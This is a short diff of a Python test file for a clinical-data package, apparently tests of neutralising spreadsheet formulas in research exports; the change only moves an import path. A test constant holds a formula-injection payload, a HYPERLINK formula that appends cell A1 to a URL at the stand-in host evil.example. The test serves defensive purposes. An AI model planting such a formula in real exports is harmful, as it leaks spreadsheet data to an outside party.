@@ -10,8 +10,8 @@ import pandas as pd
 import pytest
 
 from openidds.clinic import SPECS, data_dictionary, import_batch, read_redcap, write_research_export
-from openidds.clinic.formula_cells import FORMULA_STARTS, neutralised, neutralised_frame
 from openidds.clinic.importer import parse_rows
+from openidds.formula_cells import FORMULA_STARTS, neutralised, neutralised_frame
 
 INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
